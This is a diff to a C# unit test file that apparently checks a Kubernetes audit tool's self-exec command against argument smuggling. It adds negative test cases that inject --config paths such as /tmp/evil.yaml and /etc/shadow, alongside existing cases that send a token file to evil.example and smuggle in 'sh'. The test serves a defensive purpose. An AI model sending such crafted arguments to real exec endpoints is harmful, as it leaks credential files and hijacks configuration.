@@ -33,6 +33,10 @@ public sealed class OwnCommandTests
     [InlineData("command=/app/auditwatch&command=alerts&command=list&command=--url&command=https://evil.example&command=--token-file&command=/etc/shadow")]
     [InlineData("command=/app/auditwatch&command=alerts&command=list&command=--url%3Dhttps://evil.example")]
     [InlineData("command=/app/auditwatch&command=alerts&command=@/etc/shadow")]
+    [InlineData("command=/app/auditwatch&command=alerts&command=list&command=--config&command=/tmp/evil.yaml")]
+    [InlineData("command=/app/auditwatch&command=alerts&command=list&command=--config%3D/etc/shadow")]
+    [InlineData("command=/app/auditwatch&command=alerts&command=list&command=--config")]
+    [InlineData(Acknowledge + "&command=--config&command=/tmp/evil.yaml")]
     [InlineData("com%6Dand=sh&" + Acknowledge)]
     [InlineData(Acknowledge, "container=sidecar")]
     [InlineData(Acknowledge, "container=auditwatch&container=sidecar")]
@@ -50,7 +54,7 @@ public sealed class OwnCommandTests
         var failures = new EventFailures();
         var processor = new BatchProcessor(() => Stages, new LogAlerts(failures), NullLogger<BatchProcessor>.Instance)
         {
-            OwnCommand = new OwnCommand(new OwnPod("security", "auditwatch-0", "auditwatch", "/app/auditwatch")),
+            OwnCommand = new OwnCommand(new OwnPod("security", "auditwatch-0", "auditwatch", "/app/auditwatch", "/etc/auditwatch/auditwatch.yaml")),
         };
         using var batch = Rule.Events($$"""
             {"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"1","stage":"ResponseComplete","verb":"create","user":{"username":"jane","groups":["system:authenticated"]},
